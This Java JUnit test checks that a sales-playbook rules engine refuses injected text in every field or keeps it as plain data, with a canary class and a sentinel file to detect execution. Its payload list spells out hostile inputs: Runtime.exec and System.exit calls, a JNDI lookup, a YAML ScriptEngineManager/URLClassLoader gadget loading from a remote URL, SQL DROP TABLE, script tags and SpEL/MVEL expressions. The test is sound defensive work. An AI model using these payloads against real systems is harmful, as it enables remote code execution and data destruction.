package dev.playbook.reliability;

import static org.assertj.core.api.Assertions.assertThat;

import dev.playbook.Deals;
import dev.playbook.Playbook;
import dev.playbook.model.Deal;
import dev.playbook.problem.Problem;
import dev.playbook.problem.ProblemException;
import dev.playbook.result.Action;
import dev.playbook.result.Evaluation;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.EnumMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.DynamicContainer;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;

/**
 * Puts injection payloads into every text of a playbook or a deal that reaches compilation or
 * rendering, one field at a time, and checks that each is either refused as a problem fit for an
 * author, or kept as plain data: rendered back verbatim where it is rendered, compared as text
 * where a condition compares it. Nothing may run: the rule ids stay the two the playbook defines,
 * the {@link Canary} class is never initialised, and {@code target/pwned}, which several payloads
 * would create, never appears. Writes {@code target/injection-report.md}.
 */
class InjectionTest {

  static final Instant AS_OF = Instant.parse("2026-11-20T09:00:00Z");
  static final String CANARY_PROPERTY =
      "playbook.reliability.canary"; // Canary.PROPERTY, without touching the class
  static final Path SENTINEL = Path.of(System.getProperty("basedir", "."), "target", "pwned");
  static final List<String> RULE_IDS = List.of("inj.first", "inj.second");
  static final Map<Field, Map<String, AtomicInteger>> TALLY = new EnumMap<>(Field.class);

  // ------------------------------------------------------------------ payloads

  static final Map<String, String> PAYLOADS = payloads();

  static Map<String, String> payloads() {
    Map<String, String> p = new LinkedHashMap<>();
    p.put("double quote", "\"");
    p.put("single quote", "'");
    p.put("close string and or", "\") or true or (\"");
    p.put("sql-style quote", "' or '1'=='1");
    p.put("close parenthesis", ") or (1 == 1");
    p.put("then end", "stage == proposal) then System.exit(3); end");
    p.put(
        "second rule",
        "x\" then insert(new Object()); end\nrule \"evil\" when eval(true) then System.exit(3); end");
    p.put("newline", "line one\nline two");
    p.put("carriage returns", "cr\rlf\r\n");
    p.put("line comment", "// comment");
    p.put("block comment", "/* comment */ x");
    p.put("hash comment", "# comment");
    p.put("comment close", "*/ eval(true) /*");
    p.put("eval", "eval(true)");
    p.put("new file", "new java.io.File(\"target/pwned\").createNewFile()");
    p.put("runtime exec", "Runtime.getRuntime().exec(\"touch target/pwned\")");
    p.put("system exit", "System.exit(3)");
    p.put("java.lang", "java.lang.System.exit(3)");
    p.put("canary call", "dev.playbook.reliability.Canary.trip()");
    p.put("spel type", "T(dev.playbook.reliability.Canary).trip()");
    p.put("backslash-u escape", "\\u0022) or true or (\\u0022");
    p.put("look-alike quotes", "\u02BA\uFF02\u201C\u201D");
    p.put("dollar brace", "${java:version}");
    p.put("jndi", "${jndi:ldap://example.invalid/a}");
    p.put("hash brace", "#{1+1}");
    p.put("spel canary", "#{T(dev.playbook.reliability.Canary).trip()}");
    p.put("double brace", "{{7*7}}");
    p.put("placeholder", "{deal.name}");
    p.put("format", "%s%n%d%x%1$s");
    p.put("backslash", "\\");
    p.put("two backslashes", "\\\\");
    p.put("windows path", "C:\\temp\\new\\x.txt");
    p.put("nul", "a\u0000b");
    p.put("nul in a path", "./a\u0000b/../x");
    p.put("control characters", "a\u0001b\u001b[31mred\u007f");
    p.put("rtl override", "admin\u202Egnp.exe");
    p.put("zero width", "\u200Bx\uFEFF");
    p.put("emoji", "\uD83D\uDE00 \uD83D\uDE80");
    p.put("lone surrogate", "\uD800x");
    p.put("drl rule", "rule \"x\" salience 100 when eval(true) then end");
    p.put("drl binding", "$d : DealFact(amount > 0)");
    p.put("java import", "import java.io.File;");
    p.put("mvel", "@{System.exit(3)}");
    p.put("sql", "'; DROP TABLE deals; --");
    p.put("html", "<script>alert(1)</script>");
    p.put("template engine", "${{7*7}}");
    p.put(
        "yaml tag",
        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://example.invalid/\"]]]]");
    p.put("yaml anchor", "&a [*a]");
    p.put("line separators", "a\u2028b\u2029c\u0085d");
    p.put("long (50,000)", "A".repeat(49_990) + "\") or (\"");
    p.put("too long (100,001)", "B".repeat(100_001));
    if (Boolean.getBoolean("reliability.long")) {
      // the long form: random mixes of the fragments above
      List<String> fragments = p.values().stream().filter(v -> v.length() < 1_000).toList();
      java.util.Random random = new java.util.Random(20261126L);
      for (int i = 1; i <= 200; i++) {
        StringBuilder mix = new StringBuilder();
        for (int k = 1 + random.nextInt(4); k > 0; k--) {
          mix.append(fragments.get(random.nextInt(fragments.size())))
              .append(" \"'(){}$#%\\\n".charAt(random.nextInt(12)));
        }
        p.put("random " + i, mix.toString());
      }
    }
    return p;
  }

  // ------------------------------------------------------------------ fields

  /**
   * How a field treats text: refuses anything but a name, renders it, or reads it as a condition.
   */
  enum Mode {
    NAME,
    TEXT,
    TEMPLATE,
    RAW,
    LITERAL,
    DEAL
  }

  enum Field {
    PLAYBOOK_NAME(Mode.NAME, "PLAYBOOK"),
    STAGE(Mode.NAME, "STAGE"),
    SEGMENT(Mode.NAME, "SEGMENT"),
    CUSTOM_FIELD_NAME(Mode.NAME, "CUSTOM_NAME"),
    CUSTOM_FIELD_TYPE(Mode.NAME, "CUSTOM_TYPE"),
    PARAMETER_NAME(Mode.NAME, "PARAM_NAME"),
    METHODOLOGY_NAME(Mode.NAME, "METHODOLOGY"),
    ELEMENT_ID(Mode.NAME, "ELEMENT_ID"),
    KEY_NODE_ID(Mode.NAME, "KEY_NODE_ID"),
    KEY_NODE_STAGE(Mode.NAME, "KEY_NODE_STAGE"),
    CRITERION_ID(Mode.NAME, "CRITERION_ID"),
    TALK_TRACK_ID(Mode.NAME, "TALK_TRACK_ID", "TALK_TRACK_REF"),
    TALK_TRACK_REFERENCE(Mode.NAME, "TALK_TRACK_REF"),
    LOCALE(Mode.NAME, "LOCALE"),
    RULE_ID(Mode.NAME, "RULE_ID"),
    RULE_ELEMENT(Mode.NAME, "RULE_ELEMENT"),
    SEVERITY(Mode.NAME, "SEVERITY"),
    DUE(Mode.NAME, "DUE"),
    DISABLE(Mode.NAME, "DISABLE"),
    EXTENDS(Mode.NAME, "EXTENDS"),
    PLAYBOOK_TITLE(Mode.TEXT, "PLAYBOOK_TITLE"),
    RULE_TITLE(Mode.TEXT, "RULE_TITLE"),
    RULE_DESCRIPTION(Mode.TEXT, "RULE_DESCRIPTION"),
    METHODOLOGY_TITLE(Mode.TEXT, "METHODOLOGY_TITLE"),
    ELEMENT_TITLE(Mode.TEXT, "ELEMENT_TITLE"),
    KEY_NODE_TITLE(Mode.TEXT, "KEY_NODE_TITLE"),
    CRITERION_TITLE(Mode.TEXT, "CRITERION_TITLE"),
    TALK_TRACK_TEXT(Mode.TEMPLATE, "TALK_TRACK_TEXT"),
    TEXT_PARAMETER_VALUE(Mode.TEXT, "PARAM_VALUE"),
    GAP_MESSAGE(Mode.TEMPLATE, "GAP_MESSAGE"),
    ACTION_TITLE(Mode.TEMPLATE, "ACTION_TITLE"),
    ACTION_REASON(Mode.TEMPLATE, "ACTION_REASON"),
    GAP_MESSAGE_UNESCAPED(Mode.RAW, "GAP_MESSAGE"),
    ACTION_TITLE_UNESCAPED(Mode.RAW, "ACTION_TITLE"),
    TEMPLATE_PLACEHOLDER(Mode.RAW, "GAP_MESSAGE"),
    CONDITION(Mode.RAW, "WHEN"),
    CONDITION_PARAMETER_REFERENCE(Mode.RAW, "SECOND_WHEN"),
    ACTION_TARGET(Mode.RAW, "TARGET"),
    EXIT_CRITERION(Mode.RAW, "CRITERION_WHEN"),
    CONFIRMED_WHEN(Mode.RAW, "CONFIRMED_WHEN"),
    CONDITION_TEXT_LITERAL(Mode.LITERAL, "WHEN"),
    TARGET_TEXT_LITERAL(Mode.LITERAL, "TARGET"),
    EXIT_CRITERION_TEXT_LITERAL(Mode.LITERAL, "CRITERION_WHEN"),
    DEAL_ID(Mode.DEAL),
    DEAL_NAME(Mode.DEAL),
    DEAL_ACCOUNT(Mode.DEAL),
    DEAL_CUSTOM_TEXT(Mode.DEAL),
    CONTACT_NAME(Mode.DEAL),
    DEAL_STAGE(Mode.DEAL);

    final Mode mode;
    final List<String> slots;

    Field(Mode mode, String... slots) {
      this.mode = mode;
      this.slots = List.of(slots);
    }
  }

  static final String TEMPLATE =
      """
      playbook: %PLAYBOOK%
      title: %PLAYBOOK_TITLE%
      extends: [%EXTENDS%]
      stages: [prospecting, proposal, %STAGE%]
      segments: [smb, %SEGMENT%]
      custom_fields: { region: text, %CUSTOM_NAME%: %CUSTOM_TYPE% }
      parameters:
        greeting: %PARAM_VALUE%
        %PARAM_NAME%: 3
      methodologies:
        %METHODOLOGY%:
          title: %METHODOLOGY_TITLE%
          elements:
            - { id: metrics, title: %ELEMENT_TITLE%, confirmed_when: %CONFIRMED_WHEN% }
            - { id: %ELEMENT_ID% }
      key_nodes:
        - id: %KEY_NODE_ID%
          stage: %KEY_NODE_STAGE%
          title: %KEY_NODE_TITLE%
          exit_criteria:
            - { id: %CRITERION_ID%, title: %CRITERION_TITLE%, when: %CRITERION_WHEN% }
      talk_tracks:
        %TALK_TRACK_ID%: { %LOCALE%: %TALK_TRACK_TEXT% }
      disable: [%DISABLE%]
      rules:
        - id: %RULE_ID%
          title: %RULE_TITLE%
          description: %RULE_DESCRIPTION%
          methodology: meddic
          element: %RULE_ELEMENT%
          when: %WHEN%
          gap: { severity: %SEVERITY%, message: %GAP_MESSAGE% }
          action: { title: %ACTION_TITLE%, reason: %ACTION_REASON%, due: %DUE%, talk_track: %TALK_TRACK_REF%, target: %TARGET% }
        - id: inj.second
          when: %SECOND_WHEN%
          action: { title: %SECOND_TITLE% }
      """;

  static final Map<String, String> DEFAULTS =
      Map.ofEntries(
          Map.entry("PLAYBOOK", "inj"),
          Map.entry("PLAYBOOK_TITLE", "\"Injection\""),
          Map.entry("EXTENDS", ""),
          Map.entry("STAGE", "negotiation"),
          Map.entry("SEGMENT", "enterprise"),
          Map.entry("CUSTOM_NAME", "tier"),
          Map.entry("CUSTOM_TYPE", "text"),
          Map.entry("PARAM_VALUE", "\"Acme\""),
          Map.entry("PARAM_NAME", "limit"),
          Map.entry("METHODOLOGY", "meddic"),
          Map.entry("METHODOLOGY_TITLE", "\"MEDDIC\""),
          Map.entry("ELEMENT_TITLE", "\"Metrics\""),
          Map.entry("CONFIRMED_WHEN", "\"amount > 1000000\""),
          Map.entry("ELEMENT_ID", "champion"),
          Map.entry("KEY_NODE_ID", "ready"),
          Map.entry("KEY_NODE_STAGE", "proposal"),
          Map.entry("KEY_NODE_TITLE", "\"Ready\""),
          Map.entry("CRITERION_ID", "named"),
          Map.entry("CRITERION_TITLE", "\"Named\""),
          Map.entry("CRITERION_WHEN", "\"name is present\""),
          Map.entry("TALK_TRACK_ID", "tt"),
          Map.entry("LOCALE", "en"),
          Map.entry("TALK_TRACK_TEXT", "\"say hello\""),
          Map.entry("DISABLE", ""),
          Map.entry("RULE_ID", "inj.first"),
          Map.entry("RULE_TITLE", "\"First\""),
          Map.entry("RULE_DESCRIPTION", "\"d\""),
          Map.entry("RULE_ELEMENT", "metrics"),
          Map.entry("WHEN", "\"stage == proposal\""),
          Map.entry("SEVERITY", "high"),
          Map.entry("GAP_MESSAGE", "\"gap for {deal.name}\""),
          Map.entry("ACTION_TITLE", "\"act {account}\""),
          Map.entry("ACTION_REASON", "\"why {custom.region}\""),
          Map.entry("DUE", "2d"),
          Map.entry("TALK_TRACK_REF", "tt"),
          Map.entry("TARGET", "\"role == champion\""),
          Map.entry("SECOND_WHEN", "\"name == param(greeting)\""),
          Map.entry("SECOND_TITLE", "\"matched {param(greeting)}\""));

  private static final Pattern SLOT = Pattern.compile("%([A-Z_]+)%");

  static String playbook(Map<String, String> slots) {
    Matcher m = SLOT.matcher(TEMPLATE);
    StringBuilder out = new StringBuilder();
    while (m.find()) {
      String v = slots.getOrDefault(m.group(1), DEFAULTS.get(m.group(1)));
      m.appendReplacement(out, Matcher.quoteReplacement(v));
    }
    m.appendTail(out);
    return out.toString();
  }

  /** The line a slot sits on in the generated playbook. */
  static int lineOf(String slot) {
    String marked = playbook(Map.of(slot, "ZZMARKZZ"));
    int at = marked.indexOf("ZZMARKZZ");
    return (int) marked.substring(0, at).chars().filter(c -> c == '\n').count() + 1;
  }

  // ------------------------------------------------------------------ the tests

  @TestFactory
  Stream<DynamicContainer> payloadsInEveryField_areRefusedOrKeptAsPlainData() {
    return Stream.of(Field.values())
        .map(
            field ->
                DynamicContainer.dynamicContainer(
                    field.name().toLowerCase(Locale.ROOT),
                    PAYLOADS.entrySet().stream()
                        .map(
                            p ->
                                DynamicTest.dynamicTest(
                                    p.getKey(), () -> check(field, p.getValue())))));
  }

  /**
   * A name that holds a line break, an escape sequence or a bidirectional override is quoted back
   * in its problem; quoted raw, it would forge a second problem line or steer the terminal that
   * shows it. Checked for every payload with such characters in every name field.
   */
  @Test
  void quotedTextInProblems_keepsControlCharactersOutOfTheMessage() {
    List<String> raw = new ArrayList<>();
    int tried = 0;
    for (Field field : Field.values()) {
      if (field.mode != Mode.NAME) {
        continue;
      }
      for (Map.Entry<String, String> payload : PAYLOADS.entrySet()) {
        if (payload.getValue().codePoints().noneMatch(AuthorMessages::isControl)) {
          continue;
        }
        tried++;
        Map<String, String> slots = new LinkedHashMap<>();
        field.slots.forEach(slot -> slots.put(slot, yaml(payload.getValue())));
        try {
          Playbook.parse("inj.yaml", playbook(slots));
        } catch (ProblemException e) {
          e.problems().stream()
              .filter(p -> p.message().codePoints().anyMatch(AuthorMessages::isControl))
              .forEach(
                  p ->
                      raw.add(
                          field.name().toLowerCase(Locale.ROOT)
                              + " / "
                              + payload.getKey()
                              + ": "
                              + shorten(p.render())));
        } catch (RuntimeException e) {
          // a crash: the main test reports it for this field and payload
        }
      }
    }
    assertThat(tried).isGreaterThan(100);
    assertThat(raw)
        .as(
            "problems that quote control characters raw "
                + "[bug: quoted names are not escaped; a line break forges a problem line]")
        .isEmpty();
  }

  @AfterAll
  static void nothingRan_andReport() throws IOException {
    writeReport();
    assertThat(System.getProperty(CANARY_PROPERTY))
        .as("the canary class was initialised: a payload ran")
        .isNull();
    assertThat(SENTINEL).as("a file a payload would create").doesNotExist();
    int tried =
        TALLY.values().stream()
            .flatMap(m -> m.values().stream())
            .mapToInt(AtomicInteger::get)
            .sum();
    assertThat(tried).as("payload x field combinations tried").isGreaterThanOrEqualTo(2000);
  }

  static void check(Field field, String payload) {
    String outcome;
    try {
      outcome =
          switch (field.mode) {
            case NAME -> name(field, payload);
            case TEXT -> text(field, payload);
            case TEMPLATE -> template(field, payload);
            case RAW -> raw(field, payload);
            case LITERAL -> literal(field, payload);
            case DEAL -> deal(field, payload);
          };
    } catch (AssertionError e) {
      tally(field, "FAILED");
      throw e;
    } catch (RuntimeException e) {
      tally(field, "FAILED");
      throw new AssertionError(
          field + " with payload " + shorten(payload) + " crashed: " + trace(e), e);
    }
    tally(field, outcome);
  }

  // ------------------------------------------------------------------ by mode

  /** A name or id: the payload is never a valid one, so it must be refused at its own line. */
  static String name(Field field, String payload) {
    Map<String, String> slots = new LinkedHashMap<>();
    for (String s : field.slots) {
      slots.put(s, yaml(payload));
    }
    String yaml = playbook(slots);
    ProblemException e = refused(yaml, field, payload);
    assertThat(e).as("%s = %s must be refused", field, shorten(payload)).isNotNull();
    int line = lineOf(field.slots.get(0));
    assertThat(e.problems())
        .as("%s = %s: a problem on line %s", field, shorten(payload), line)
        .anyMatch(p -> p.line() == line);
    return "refused: " + e.problems().get(0).code();
  }

  /** A plain text: kept verbatim wherever it is shown. */
  static String text(Field field, String payload) {
    String yaml = playbook(Map.of(field.slots.get(0), yaml(payload)));
    if (tooLong(payload)) {
      return refusedTooLong(yaml, field, payload);
    }
    Playbook p = loads(yaml, field, payload);
    Deal deal = field == Field.TEXT_PARAMETER_VALUE ? dealWith("name", payload) : defaultDeal();
    Evaluation e = p.evaluate(deal, AS_OF);
    String shown =
        switch (field) {
          case PLAYBOOK_TITLE -> p.title();
          case RULE_TITLE -> p.explain(deal, AS_OF, "inj.first").title();
          case RULE_DESCRIPTION -> payload; // not shown anywhere; loading it is the point
          case METHODOLOGY_TITLE -> e.scorecards().get(0).title();
          case ELEMENT_TITLE -> e.scorecards().get(0).elements().get(0).title();
          case KEY_NODE_TITLE -> e.stageReadiness().keyNodes().get(0).title();
          case CRITERION_TITLE -> e.stageReadiness().keyNodes().get(0).criteria().get(0).title();
          case TEXT_PARAMETER_VALUE ->
              action(e, "inj.second").title().substring("matched ".length());
          default -> throw new IllegalStateException(field.name());
        };
    String expected =
        field == Field.TEXT_PARAMETER_VALUE ? renderedTail("matched ", payload) : payload;
    assertThat(shown).as("%s shows the payload verbatim", field).isEqualTo(expected);
    return "kept as data";
  }

  /** A message template with the payload's braces escaped: rendered verbatim. */
  static String template(Field field, String payload) {
    String escaped = payload.replace("{", "{{").replace("}", "}}");
    String yaml = playbook(Map.of(field.slots.get(0), yaml(escaped)));
    if (tooLong(escaped)) {
      return refusedTooLong(yaml, field, payload);
    }
    Playbook p = loads(yaml, field, payload);
    Evaluation e = p.evaluate(defaultDeal(), AS_OF);
    String shown =
        switch (field) {
          case GAP_MESSAGE -> e.gaps().get(0).message();
          case ACTION_TITLE -> action(e, "inj.first").title();
          case ACTION_REASON -> action(e, "inj.first").reason();
          case TALK_TRACK_TEXT -> action(e, "inj.first").talkTrack();
          default -> throw new IllegalStateException(field.name());
        };
    assertThat(shown).as("%s renders the payload verbatim", field).isEqualTo(payload);
    return "kept as data";
  }

  /**
   * The payload as written into a condition, template or placeholder: refused, or harmless data.
   */
  static String raw(Field field, String payload) {
    String slot = field.slots.get(0);
    String value =
        switch (field) {
          case CONDITION -> "stage == proposal and (" + payload + ")";
          case CONDITION_PARAMETER_REFERENCE -> "name == param(" + payload + ")";
          case TEMPLATE_PLACEHOLDER -> "x {" + payload + "} y";
          default -> payload;
        };
    String yaml = playbook(Map.of(slot, yaml(value)));
    ProblemException refused = refused(yaml, field, payload);
    if (refused != null) {
      return "refused: " + refused.problems().get(0).code();
    }
    Playbook p = loads(yaml, field, payload);
    Evaluation e = p.evaluate(defaultDeal(), AS_OF);
    if (field == Field.GAP_MESSAGE_UNESCAPED
        && !payload.contains("{")
        && !payload.contains("}")
        && !e.gaps().isEmpty()) {
      assertThat(e.gaps().get(0).message()).isEqualTo(payload);
    }
    if (field == Field.ACTION_TITLE_UNESCAPED && !payload.contains("{") && !payload.contains("}")) {
      assertThat(action(e, "inj.first").title()).isEqualTo(payload);
    }
    return "accepted as data";
  }

  /** The payload as a quoted text inside a condition: compared as text, nothing else. */
  static String literal(Field field, String payload) {
    String quoted = "\"" + payload.replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
    String value =
        switch (field) {
          case CONDITION_TEXT_LITERAL -> "stage == proposal and name == " + quoted;
          case TARGET_TEXT_LITERAL, EXIT_CRITERION_TEXT_LITERAL -> "name == " + quoted;
          default -> throw new IllegalStateException(field.name());
        };
    String yaml = playbook(Map.of(field.slots.get(0), yaml(value)));
    boolean breaksLine = payload.indexOf('\n') >= 0 || payload.indexOf('\r') >= 0;
    if (breaksLine || value.length() > 4_000) {
      ProblemException e = refused(yaml, field, payload);
      assertThat(e)
          .as(
              "%s = %s: a text with a line break, or a condition over 4,000 characters, is refused",
              field, shorten(payload))
          .isNotNull();
      return "refused: " + e.problems().get(0).code();
    }
    Playbook p = loads(yaml, field, payload);
    switch (field) {
      case CONDITION_TEXT_LITERAL -> {
        assertThat(p.evaluate(dealWith("name", payload), AS_OF).firedRules())
            .as("fires on the exact text")
            .contains("inj.first");
        assertThat(p.evaluate(defaultDeal(), AS_OF).firedRules())
            .as("does not fire on other text")
            .doesNotContain("inj.first");
      }
      case TARGET_TEXT_LITERAL -> {
        Evaluation e = p.evaluate(dealWith("contact", payload), AS_OF);
        assertThat(action(e, "inj.first").target().name())
            .as("the contact with that name")
            .isEqualTo(payload);
        assertThat(action(p.evaluate(defaultDeal(), AS_OF), "inj.first").target())
            .as("no contact with that name")
            .isNull();
      }
      default -> {
        assertThat(
                p.evaluate(dealWith("name", payload), AS_OF)
                    .stageReadiness()
                    .keyNodes()
                    .get(0)
                    .criteria()
                    .get(0)
                    .met())
            .isTrue();
        assertThat(
                p.evaluate(defaultDeal(), AS_OF)
                    .stageReadiness()
                    .keyNodes()
                    .get(0)
                    .criteria()
                    .get(0)
                    .met())
            .isFalse();
      }
    }
    return "kept as data";
  }

  /** The payload in a deal file's text field: read as data and shown verbatim. */
  static String deal(Field field, String payload) {
    Playbook p = Playbook.parse("inj.yaml", playbook(Map.of()));
    String key =
        switch (field) {
          case DEAL_ID -> "id";
          case DEAL_NAME -> "name";
          case DEAL_ACCOUNT -> "account";
          case DEAL_CUSTOM_TEXT -> "region";
          case CONTACT_NAME -> "champion";
          case DEAL_STAGE -> "stage";
          default -> throw new IllegalStateException(field.name());
        };
    String json = dealJson(key, payload);
    List<Deal> deals;
    try {
      deals = Deals.parse("deal.json", json);
    } catch (ProblemException e) {
      assertClean(e, json, field, payload);
      if (!tooLong(payload)) {
        throw new AssertionError(
            field
                + ": a deal file with text "
                + shorten(payload)
                + " was refused: "
                + e.getMessage());
      }
      return "refused: " + e.problems().get(0).code();
    }
    Deal deal = deals.get(0);
    if (field == Field.DEAL_STAGE) {
      try {
        p.evaluate(deal, AS_OF);
        throw new AssertionError("a deal at stage " + shorten(payload) + " was evaluated");
      } catch (IllegalArgumentException e) {
        assertThat(e.getMessage())
            .as("names the deal and its stage")
            .contains("'D-1'")
            .contains(payload);
        return "refused at evaluation";
      }
    }
    Evaluation e = p.evaluate(deal, AS_OF);
    assertThat(p.ruleIds()).isEqualTo(RULE_IDS);
    String shown =
        switch (field) {
          case DEAL_ID -> e.dealId();
          case DEAL_NAME -> e.gaps().get(0).message().substring("gap for ".length());
          case DEAL_ACCOUNT -> action(e, "inj.first").title().substring("act ".length());
          case DEAL_CUSTOM_TEXT -> action(e, "inj.first").reason().substring("why ".length());
          default -> action(e, "inj.first").target().name();
        };
    String expected =
        switch (field) {
          case DEAL_NAME -> renderedTail("gap for ", payload);
          case DEAL_ACCOUNT -> renderedTail("act ", payload);
          case DEAL_CUSTOM_TEXT -> renderedTail("why ", payload);
          default -> payload;
        };
    assertThat(shown).as("%s shows the deal's text verbatim", field).isEqualTo(expected);
    return "kept as data";
  }

  // ------------------------------------------------------------------ helpers

  /**
   * What a rendered message shows of {@code payload} after {@code prefix}: all of it, or, past the
   * default maximum message length, the part before the cut and the truncation marker.
   */
  static String renderedTail(String prefix, String payload) {
    String full = prefix + payload;
    int max = dev.playbook.EvaluationLimits.DEFAULT_MAX_MESSAGE_LENGTH;
    if (full.length() <= max) {
      return payload;
    }
    String marker = "…[truncated]";
    return full.substring(prefix.length(), max - marker.length()) + marker;
  }

  static boolean tooLong(String text) {
    return text.length() > 100_000;
  }

  static String refusedTooLong(String yaml, Field field, String payload) {
    ProblemException e = refused(yaml, field, payload);
    assertThat(e).as("a text over 100,000 characters is refused").isNotNull();
    assertThat(e.problems()).extracting(Problem::code).contains("too-large");
    return "refused: too-large";
  }

  /**
   * Loads the playbook; null if it loads (then with exactly the two rules), else the clean refusal.
   */
  static ProblemException refused(String yaml, Field field, String payload) {
    try {
      Playbook p = Playbook.parse("inj.yaml", yaml);
      assertThat(p.ruleIds())
          .as("%s = %s: the rules are the playbook's own", field, shorten(payload))
          .isEqualTo(RULE_IDS);
      return null;
    } catch (ProblemException e) {
      assertClean(e, yaml, field, payload);
      return e;
    }
  }

  static Playbook loads(String yaml, Field field, String payload) {
    try {
      Playbook p = Playbook.parse("inj.yaml", yaml);
      assertThat(p.ruleIds())
          .as("%s = %s: the rules are the playbook's own", field, shorten(payload))
          .isEqualTo(RULE_IDS);
      return p;
    } catch (ProblemException e) {
      throw new AssertionError(
          field + " = " + shorten(payload) + " must load as plain data, but: " + e.getMessage(), e);
    }
  }

  /**
   * Checks every problem's message, except for raw control characters, which {@link
   * #quotedTextInProblems_keepsControlCharactersOutOfTheMessage} checks on its own.
   */
  static void assertClean(ProblemException e, String input, Field field, String payload) {
    for (Problem p : e.problems()) {
      assertThat(
              AuthorMessages.flaws(p, input).stream()
                  .filter(f -> !f.startsWith(AuthorMessages.RAW_CONTROL)))
          .as("%s = %s: message of %s", field, shorten(payload), shorten(p.render()))
          .isEmpty();
      assertThat(HostileCorpusTest.DOCUMENTED).as("documented problem codes").contains(p.code());
    }
  }

  static Action action(Evaluation e, String rule) {
    return e.actions().stream()
        .filter(a -> a.rule().equals(rule))
        .findFirst()
        .orElseThrow(() -> new AssertionError("no action of rule " + rule + " in " + e.actions()));
  }

  static Deal defaultDeal() {
    return Deals.parse("deal.json", dealJson(null, null)).get(0);
  }

  static Deal dealWith(String key, String value) {
    return Deals.parse("deal.json", dealJson(key, value)).get(0);
  }

  /** The default deal as JSON, with one text replaced (or a contact of that name added). */
  static String dealJson(String key, String value) {
    Map<String, String> t =
        new LinkedHashMap<>(
            Map.of(
                "id",
                "D-1",
                "stage",
                "proposal",
                "name",
                "Acme",
                "account",
                "Acme Corp",
                "region",
                "emea",
                "champion",
                "Pat"));
    String extra = "";
    if ("contact".equals(key)) {
      extra = ", {\"id\": \"c2\", \"name\": " + json(value) + "}";
    } else if (key != null) {
      t.put(key, value);
    }
    return "{\"id\": "
        + json(t.get("id"))
        + ", \"stage\": "
        + json(t.get("stage"))
        + ", \"name\": "
        + json(t.get("name"))
        + ", \"account\": "
        + json(t.get("account"))
        + ", \"contacts\": [{\"id\": \"c1\", \"name\": "
        + json(t.get("champion"))
        + ", \"roles\": [\"champion\"]}"
        + extra
        + "], \"custom\": {\"region\": "
        + json(t.get("region"))
        + "}}";
  }

  /** A YAML double-quoted scalar holding exactly {@code s}. */
  static String yaml(String s) {
    StringBuilder sb = new StringBuilder("\"");
    for (int i = 0; i < s.length(); i++) {
      char c = s.charAt(i);
      if (c == '"' || c == '\\') {
        sb.append('\\').append(c);
      } else if (c < 0x20
          || (c >= 0x7f && c <= 0x9f)
          || c == 0x2028
          || c == 0x2029
          || c == 0xFEFF
          || lone(s, i)) {
        sb.append(String.format("\\u%04X", (int) c));
      } else {
        sb.append(c);
      }
    }
    return sb.append('"').toString();
  }

  /** Whether the char at {@code i} is half of a surrogate pair without its other half. */
  static boolean lone(String s, int i) {
    char c = s.charAt(i);
    if (Character.isHighSurrogate(c)) {
      return i + 1 >= s.length() || !Character.isLowSurrogate(s.charAt(i + 1));
    }
    if (Character.isLowSurrogate(c)) {
      return i == 0 || !Character.isHighSurrogate(s.charAt(i - 1));
    }
    return false;
  }

  /** A JSON string holding exactly {@code s}. */
  static String json(String s) {
    StringBuilder sb = new StringBuilder("\"");
    for (int i = 0; i < s.length(); i++) {
      char c = s.charAt(i);
      if (c == '"' || c == '\\') {
        sb.append('\\').append(c);
      } else if (c < 0x20 || c == 0x7f || Character.isSurrogate(c)) {
        sb.append(String.format("\\u%04X", (int) c));
      } else {
        sb.append(c);
      }
    }
    return sb.append('"').toString();
  }

  static String shorten(String s) {
    String t = s.length() > 80 ? s.substring(0, 77) + "..." : s;
    return "'" + t.replace("\n", "\\n").replace("\r", "\\r") + "'";
  }

  static String trace(Throwable t) {
    StringWriter w = new StringWriter();
    t.printStackTrace(new PrintWriter(w));
    return w.toString();
  }

  static void tally(Field field, String outcome) {
    synchronized (TALLY) {
      TALLY
          .computeIfAbsent(field, f -> new LinkedHashMap<>())
          .computeIfAbsent(outcome, o -> new AtomicInteger())
          .incrementAndGet();
    }
  }

  static void writeReport() throws IOException {
    StringBuilder md = new StringBuilder("# Injection report\n\n");
    int tried = 0;
    Map<String, Integer> totals = new LinkedHashMap<>();
    List<String> rows = new ArrayList<>();
    synchronized (TALLY) {
      for (Map.Entry<Field, Map<String, AtomicInteger>> e : TALLY.entrySet()) {
        int n = e.getValue().values().stream().mapToInt(AtomicInteger::get).sum();
        tried += n;
        e.getValue()
            .forEach(
                (k, v) ->
                    totals.merge(k.startsWith("refused:") ? "refused" : k, v.get(), Integer::sum));
        rows.add(
            "| "
                + e.getKey().name().toLowerCase(Locale.ROOT)
                + " | "
                + e.getKey().mode.name().toLowerCase(Locale.ROOT)
                + " | "
                + n
                + " | "
                + e.getValue().entrySet().stream()
                    .map(x -> x.getKey() + " " + x.getValue().get())
                    .reduce((a, b) -> a + ", " + b)
                    .orElse("")
                + " |");
      }
    }
    md.append(
        String.format(
            Locale.ROOT,
            "%d payloads x %d fields = %d combinations tried: %s.%n%n",
            PAYLOADS.size(),
            TALLY.size(),
            tried,
            totals));
    md.append("Canary class initialised: ")
        .append(System.getProperty(CANARY_PROPERTY) != null)
        .append("; sentinel file created: ")
        .append(Files.exists(SENTINEL))
        .append(".\n\n");
    md.append("| field | kind | tried | outcomes |\n|---|---|---:|---|\n");
    rows.forEach(r -> md.append(r).append('\n'));
    md.append("\nPayloads: ").append(String.join(", ", PAYLOADS.keySet())).append(".\n");
    Path target = Path.of(System.getProperty("basedir", "."), "target");
    Files.createDirectories(target);
    Files.writeString(target.resolve("injection-report.md"), md.toString());
  }
}
